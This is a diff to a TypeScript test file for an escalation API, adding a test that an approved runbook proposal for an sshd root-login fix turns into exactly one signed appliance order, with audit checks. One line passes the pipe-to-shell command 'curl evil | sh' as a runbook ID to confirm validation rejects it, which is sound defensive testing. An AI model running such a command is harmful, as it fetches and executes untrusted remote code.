@@ -3,7 +3,7 @@ import type { ApplianceEscalationRequest, Escalation } from '@osiris/protocol';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type Caller, startTestApp, type TestApp, testBackends } from '../../testing';
 import { auditOf, createTenant, expectError, walkPages } from '../../testing/api';
-import { registerTestAppliance } from '../../testing/appliance';
+import { checkinOrders, registerTestAppliance } from '../../testing/appliance';
 
 describe.each(testBackends)('escalations on %s', (backend) => {
   let t: TestApp;
@@ -123,5 +123,64 @@ describe.each(testBackends)('escalations on %s', (backend) => {
     const open = (await admin.request({ method: 'GET', url: `/v1/escalations?state=open&siteId=${siteId}` })).json();
     expect(open.items.some((e: Escalation) => e.id === id)).toBe(false);
     expectError(await admin.request({ method: 'GET', url: `/v1/escalations/${randomUUID()}` }), 404, 'NOT_FOUND');
+  });
+
+  it('turns an approved L2 proposal into a signed run_runbook order for the appliance, once', async () => {
+    const incidentId = randomUUID();
+    const proposal = {
+      incidentId,
+      runbookId: 'rb-linux.ssh.permit-root-login',
+      params: {},
+      confidence: 0.41,
+      reasoning: 'PermitRootLogin yes; the runbook sets it to no and reloads sshd.',
+      why: 'low_confidence' as const,
+    };
+    const body = escalation({ proposal });
+    expectError(
+      await send(escalation({ proposal: { ...proposal, runbookId: 'curl evil | sh' } })),
+      400,
+      'VALIDATION_FAILED',
+    );
+    const stored = (await send(body)).json() as Escalation;
+    expect(stored).toMatchObject({ proposal, approval: null, state: 'open' });
+
+    const url = `/v1/escalations/${body.id}/approve`;
+    expectError(
+      await admin.request({ method: 'POST', url: `/v1/escalations/${randomUUID()}/approve`, payload: {} }),
+      404,
+      'NOT_FOUND',
+    );
+    const approved = await operator.request({ method: 'POST', url, payload: { note: 'Root login is not used here.' } });
+    expect(approved.statusCode, approved.body).toBe(200);
+    const result = approved.json() as Escalation;
+    expect(result).toMatchObject({ state: 'acknowledged', approval: { approvedBy: operator.userId } });
+    expectError(await operator.request({ method: 'POST', url, payload: {} }), 409, 'CONFLICT');
+
+    const orders = await checkinOrders(t, appliance.token);
+    const order = orders.find((o) => o.order.id === result.approval?.orderId)?.order;
+    expect(order).toMatchObject({
+      type: 'run_runbook',
+      applianceId: appliance.applianceId,
+      payload: {
+        escalationId: body.id,
+        incidentId,
+        hostId: body.hostId,
+        checkId: body.checkId,
+        runbookId: proposal.runbookId,
+        params: {},
+      },
+    });
+    expect((await auditOf(admin, body.id)).map((e) => e.action).sort()).toEqual([
+      'escalation.approve',
+      'escalation.receive',
+    ]);
+
+    // Nothing to approve on a plain escalation.
+    const plain = (await send(escalation())).json() as Escalation;
+    expectError(
+      await operator.request({ method: 'POST', url: `/v1/escalations/${plain.id}/approve`, payload: {} }),
+      409,
+      'CONFLICT',
+    );
   });
 });
